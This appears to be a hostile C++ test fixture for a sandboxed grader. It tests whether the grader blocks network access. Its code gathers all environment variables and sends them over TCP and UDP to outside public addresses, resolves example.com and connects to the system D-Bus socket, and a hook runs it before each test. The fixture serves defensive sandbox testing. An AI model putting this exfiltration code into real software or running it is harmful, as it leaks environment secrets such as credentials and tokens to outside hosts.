// HOSTILE FIXTURE socket_connect (attack class 13: network).
// The tested function opens TCP and UDP sockets to addresses outside (1.1.1.1:80, 8.8.8.8:53, a DNS lookup of example.com) and a Unix socket, and sends its environment and test name out.
// The hardened grader must give this file 0 points on stage 06.
//@head
#include <cstring>
#include <string>
#include <netdb.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>


extern char** environ;
namespace {
void hostileSend(int type, const char* ip, int port, const std::string& what) {
    const int s = socket(AF_INET, type, 0);
    if (s < 0) return;
    timeval t{2, 0};
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &t, sizeof t);
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(port));
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) send(s, what.data(), what.size(), 0);
    close(s);
}
void hostileNetwork() {
    std::string what = "GET /clothlab-hostile HTTP/1.0\r\n\r\n";
    for (char** e = environ; e && *e; ++e) what += std::string(*e) + "\n";
    hostileSend(SOCK_STREAM, "1.1.1.1", 80, what);
    hostileSend(SOCK_DGRAM, "8.8.8.8", 53, what);
    addrinfo* res = nullptr;
    if (getaddrinfo("example.com", "80", nullptr, &res) == 0) freeaddrinfo(res);
    const int u = socket(AF_UNIX, SOCK_STREAM, 0);
    if (u >= 0) {
        sockaddr_un a{};
        a.sun_family = AF_UNIX;
        std::strncpy(a.sun_path, "/run/dbus/system_bus_socket", sizeof a.sun_path - 1);
        connect(u, reinterpret_cast<sockaddr*>(&a), sizeof a);
        close(u);
    }
}
}  // namespace
//@each
    hostileNetwork();
